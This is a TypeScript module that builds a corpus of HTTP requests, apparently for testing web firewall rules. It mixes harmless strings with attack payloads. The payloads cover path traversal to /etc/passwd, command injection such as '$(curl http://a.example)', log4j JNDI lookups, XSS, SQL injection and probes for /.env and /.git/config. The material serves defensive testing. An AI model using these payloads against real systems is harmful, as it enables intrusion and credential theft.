/** A request for both sides of a comparison. `headers` alternate between name and value. */
export type CorpusRequest = { method: string; url: string; headers: readonly string[] };

const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36';

/** Attack payloads, one of each family that the core rule set detects in request heads. */
const ATTACKS = [
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/shadow',
  '/proc/self/environ',
  'file:///etc/hosts',
  'http://192.0.2.1/shell.txt?',
  'php://input',
  'data://text/plain;base64,PD9waHA=',
  '<?php system($_GET[1]); ?>',
  ';cat /etc/passwd',
  '|id',
  '`uname -a`',
  '$(curl http://a.example)',
  '&& ping -c 1 192.0.2.1',
  'cmd.exe /c dir',
  'powershell -enc AAAA',
  '() { :; }; /bin/bash -c id',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what log4j looks up.
  '${jndi:ldap://a.example/b}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the same, disguised.
  '${${lower:j}ndi:rmi://a.example/b}',
  'java.lang.Runtime',
  'rO0ABXNyABFqYXZhLnV0aWwu',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  'javascript:alert(document.cookie)',
  '<iframe src=//a.example>',
  'document.cookie',
  "1' or '1'='1",
  '1 union select a,b from users',
  "1'; drop table users--",
  'sleep(5)',
  'benchmark(1000000,md5(1))',
  'select * from information_schema.tables',
  "' or 1=1#",
  'waitfor delay 0:0:5',
  'exec xp_cmdshell',
  'load_file(0x2f657463)',
  '{"$ne": null}',
  '%00',
  'a\r\nSet-Cookie: b=c',
  'require("child_process").exec(1)',
  '__proto__',
];

/** Harmless texts that resemble attacks. */
const HARMLESS = [
  'a film about select committees from 2024',
  'Drop off and pick up',
  'Rock & roll; the best of',
  "It's O'Brien's union",
  'price < 10 and size > 5',
  'C:\\Users\\film.mp4',
  'https://owner.example/watch?v=1&list=a',
  'a@b.example',
  '2024-01-01T00:00:00.000Z',
  '0193f0ca-0000-7000-8000-000000000000',
  '{"title":"A film","tags":["a","b"]}',
  'Straße, São Paulo, 東京',
  '50 % off (today only!)',
  '#hashtag @name',
  'id=5',
  'insert coin',
  'a+b=c',
  'where to order by phone',
  'the cat sat on etc.',
  '-1',
  '1.5e10',
  'true',
  'x'.repeat(300),
  'en-US,en;q=0.9',
];

const PATHS = [
  '/',
  '/.env',
  '/.git/config',
  '/wp-config.php',
  '/wp-login.php',
  '/admin/config.php',
  '/index.bak',
  '/backup.sql',
  '/%2e%2e%2f%2e%2e%2fetc/passwd',
  '/..%5c..%5cwindows%5csystem32',
  '/a%00b',
  '/.htaccess',
  '/server-status',
  '/phpinfo.php',
  '/cgi-bin/test.sh',
  '/robots.txt',
  '/favicon.ico',
  '/apple-touch-icon.png',
  '/.well-known/security.txt',
  '/vz-3/0193f0ca-0000-7000-8000-000000000000/playlist.m3u8?ver=2&app=player-1',
  '/library/1/videos?search=a+film&orderBy=date',
  '/a/b/c/d.html',
];

/**
 * Returns requests with each payload in an argument, in an argument name, in the path, in a cookie, and in the
 * referrer.
 */
export function requestCorpus(): CorpusRequest[] {
  const usual = ['Host', 'edge.example', 'User-Agent', BROWSER, 'Accept', '*/*'];
  const get = (url: string, ...more: string[]): CorpusRequest => ({ method: 'GET', url, headers: [...usual, ...more] });
  const placed = [...ATTACKS, ...HARMLESS].flatMap((text) => {
    const encoded = encodeURIComponent(text);
    const plain = text.replaceAll(/[^\x20-\x7e]/g, '');
    return [
      get(`/search?q=${encoded}`),
      get(`/search?a=1&${encoded}=2&b=3`),
      get(`/files/${encoded}`),
      get('/', 'Cookie', `session=${encoded}`),
      get('/', 'Referer', `https://owner.example/?q=${encoded}`),
      get('/', 'X-Note', plain),
    ];
  });
  const methods = ['HEAD', 'OPTIONS', 'PUT', 'DELETE', 'PROPFIND'];
  return [
    ...PATHS.map((url) => get(url)),
    ...methods.map((method) => ({ ...get('/a'), method })),
    get('/a', 'Range', 'bytes=0-1,5-9'),
    get('/a', 'If-None-Match', '"a"', 'Accept-Language', 'de,en;q=0.5', 'Origin', 'https://owner.example'),
    ...placed,
  ];
}
